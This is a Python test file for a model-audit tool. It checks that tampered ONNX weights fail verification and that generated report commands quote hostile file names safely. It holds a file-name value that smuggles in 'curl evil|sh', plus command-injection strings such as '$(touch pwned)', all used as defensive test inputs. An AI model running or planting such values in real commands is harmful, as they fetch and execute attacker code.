"""Reports under attack: a tampered model next to a good bundle, hostile file names in the
copy-paste commands."""

from __future__ import annotations

import html
import shlex
import shutil
from pathlib import Path
from typing import Any

import numpy as np
from click.testing import CliRunner

from lethe_audit import errors as E
from lethe_audit.cli import EXIT_CODES, main
from lethe_audit.report import build_receipt_page, build_report
from lethe_audit.report._fmt import sh
from tests.report import _bundles as B
from tests.report.conftest import Fixed
from tests.report.test_report import attested_model  # noqa: F401  (the fixture)


def _tampered(model: Path, out: Path) -> Path:
    """The attested model with one weight changed: what a hostile distributor ships."""
    import onnx
    from onnx import numpy_helper

    m = onnx.load_model_from_string(model.read_bytes())
    w = m.graph.initializer[0]
    arr = numpy_helper.to_array(w).copy()
    arr.flat[0] += 1.0
    w.CopyFrom(numpy_helper.from_array(arr.astype(np.float32), w.name))
    out.write_bytes(m.SerializeToString())
    return out


def test_report_with_a_tampered_model_fails_with_the_model_error(
    attested_model: dict[str, Any],  # noqa: F811
    tmp_path: Path,
) -> None:
    p = attested_model
    bad = _tampered(p["model"], tmp_path / "tiny.onnx")
    report = build_report(p["bundle"], [B.vkey()], model=bad, eval_data=p["same"])
    assert not report.passed
    assert isinstance(report.error, E.ModelVerificationError) and report.error.what == "content"
    assert report.headline.startswith("Verification FAILED for the model tiny.onnx")
    assert report.data["verification"]["error"]["type"] == "ModelVerificationError"
    out = tmp_path / "r.html"
    res = CliRunner().invoke(
        main,
        ["report", str(p["bundle"]), "--key", B.vkey(), "--model", str(bad),
         "--eval-data", str(p["same"]), "-o", str(out)],
    )  # fmt: skip
    assert res.exit_code == EXIT_CODES[E.ModelVerificationError] == 50, res.output
    assert "Verification passed" not in res.output
    assert "Verification FAILED for the model tiny.onnx" in res.output
    assert "Verification passed" not in out.read_text()
    check = CliRunner().invoke(main, ["model", "verify", str(bad), "--key", B.vkey()])
    assert check.exit_code == 50  # the same code as `model verify`


HOSTILE = "x;curl evil|sh;"


def _words_after(text: str, prefix: str) -> list[list[str]]:
    """Every command line of ``text`` starting with ``prefix``, split as a shell would."""
    return [shlex.split(ln.strip()) for ln in text.splitlines() if ln.strip().startswith(prefix)]


def test_copy_paste_commands_quote_hostile_file_names(fixed: Fixed, tmp_path: Path) -> None:
    bundle = tmp_path / f"{HOSTILE}.zip"
    shutil.copy(fixed.bundle_zip, bundle)
    receipt = tmp_path / f"{HOSTILE}.tlog-proof"
    shutil.copy(fixed.receipts["applied"], receipt)

    report = build_report(bundle, [B.vkey()], now=B.NOW)
    assert report.passed
    out = report.write(tmp_path / "r.html", format="html")
    text = html.unescape(out.read_text())
    verify_cmds = _words_after(text, "lethe-audit verify ")
    report_cmds = _words_after(text, "lethe-audit report ")
    assert verify_cmds and report_cmds
    for words in verify_cmds + report_cmds:
        assert words[2] == bundle.name and words[3:5] == ["--key", B.vkey()]
        assert ";" not in "".join(w for w in words if w != bundle.name)

    page = build_receipt_page(receipt, [B.vkey()], request_id=B.REQ_A, now=B.NOW)
    cmds = page.data["commands"]
    assert any(c.startswith("lethe-audit receipt verify ") for c in cmds)
    for c in cmds[1:]:
        words = shlex.split(c)
        assert words[0] == "lethe-audit" and receipt.name in words
        assert words[words.index("--key") + 1] == B.vkey()
    shown = CliRunner().invoke(
        main, ["receipt", "show", str(receipt), "--key", B.vkey(), "--request", B.REQ_A]
    )
    assert shown.exit_code == 0, shown.output
    assert _words_after(shown.output, "lethe-audit receipt verify ")[0][3] == receipt.name


def test_shell_words_survive_any_value() -> None:
    for value in ["a'b", "$(touch pwned)", "`id`", "x;y|z&", "", "plain.zip", "a b\tc"]:
        assert shlex.split(f"cmd {sh(value)}") == ["cmd", value]
        assert shlex.split(f"cmd {sh(value, always=True)}") == ["cmd", value]
    assert sh("example.org/log+1+AQ==", always=True) == "'example.org/log+1+AQ=='"
